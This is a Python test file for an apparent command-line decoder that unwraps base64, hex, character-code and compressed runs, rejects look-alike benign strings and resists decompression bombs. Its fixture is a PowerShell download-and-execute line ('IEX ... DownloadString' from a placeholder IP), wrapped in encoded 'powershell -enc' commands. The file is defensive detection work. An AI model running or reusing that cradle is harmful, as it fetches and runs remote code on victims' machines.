"""Encoded runs: what was encoded comes out, what only looks encoded does not, and hostile texts cost little."""

from __future__ import annotations

import base64
import gzip
import time
import zlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from vizsla.text.decode import ROOM, RUNS, decoded

SAYS = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')"
READABLE = st.text("abcdefghij klmnop", min_size=24, max_size=200).map(lambda text: f"{text}the end")


def b64(data: bytes) -> str:
    return base64.b64encode(data).decode()


@pytest.mark.parametrize(
    ("run", "how"),
    [
        (b64(SAYS.encode()), ("base64",)),
        (b64(SAYS.encode("utf-16-le")), ("base64", "utf-16")),
        (b64(SAYS.encode()).rstrip("="), ("base64",)),
        (base64.urlsafe_b64encode(SAYS.encode()).decode(), ("base64",)),
        (SAYS.encode().hex(), ("hex",)),
        (" ".join(f"{byte:02X}" for byte in SAYS.encode()), ("hex",)),
        (",".join(f"0x{byte:02x}" for byte in SAYS.encode()), ("hex",)),
        (",".join(str(byte) for byte in SAYS.encode()), ("codes",)),
        (" + ".join(str(byte) for byte in SAYS.encode()), ("codes",)),
        (b64(gzip.compress(SAYS.encode())), ("base64", "gzip")),
        (b64(zlib.compress(SAYS.encode())), ("base64", "zlib")),
        (b64(zlib.compress(SAYS.encode(), wbits=-15)), ("base64", "deflate")),
    ],
)
def test_what_was_encoded_comes_out(run: str, how: tuple[str, ...]) -> None:
    found = decoded(f"powershell.exe -nop -enc {run}")
    assert found[0].text == SAYS
    assert found[0].how == how
    assert len(run) - 4 <= found[0].run <= len(run) + 2


def test_layers_are_taken_off() -> None:
    inner = f"powershell -enc {b64(SAYS.encode('utf-16-le'))}"
    found = decoded(f"cmd /c {b64(inner.encode())}")
    assert {one.text for one in found} == {inner, SAYS}
    assert (SAYS, ("base64", "base64", "utf-16")) in {(one.text, one.how) for one in found}


@given(READABLE)
@settings(deadline=None)
def test_any_readable_text_survives_base64(text: str) -> None:
    assert decoded(f"x {b64(text.encode())}")[0].text == text


@pytest.mark.parametrize(
    "text",
    [
        "",
        "C:/Program Files/Microsoft/EdgeWebView/Application/msedgewebview2",
        '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --handle=1718,i,172,8',
        "powershell.exe -ExecutionPolicy Bypass -File C:\\scripts\\Invoke-InventoryCollection.ps1",
        "S-1-5-21-1004336348-1177238915-682003330-512",
        "{5945c046-1e7d-11d1-bc44-00c04fd912be}",
        "d41d8cd98f00b204e9800998ecf8427e e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
        "10.0.0.1, 10.0.0.2, 10.0.0.3, 10.0.0.4, 10.0.0.5",
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
        "00000000000000000000000000000000000000000000000000",
    ],
)
def test_what_only_looks_encoded_stays(text: str) -> None:
    assert decoded(text) == []


@given(st.binary(max_size=400))
@settings(deadline=None)
def test_any_bytes_are_taken(data: bytes) -> None:
    for one in decoded(f"{b64(data)} {data.hex()} {data.decode('latin-1')}"):
        assert len(one.text) >= 8


def test_a_bomb_fills_no_more_room_than_it_may() -> None:
    bomb = b64(gzip.compress(b"all work and no play " * 2_000_000, 9))
    found = decoded(bomb[:65_000])
    assert all(len(one.text) <= ROOM for one in found)


@pytest.mark.parametrize(
    "text",
    ["A" * 1_000_000, "ab" * 500_000, "1," * 500_000, "0x" * 500_000, "A=" * 500_000, "12 " * 300_000,
     " ".join(["QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo="] * 20_000), "%" * 1_000_000, "4 " * 500_000],
)  # fmt: skip
def test_hostile_texts_cost_little(text: str) -> None:
    begin = time.process_time()
    found = decoded(text)
    assert time.process_time() - begin < 2
    assert len(found) <= RUNS * 6
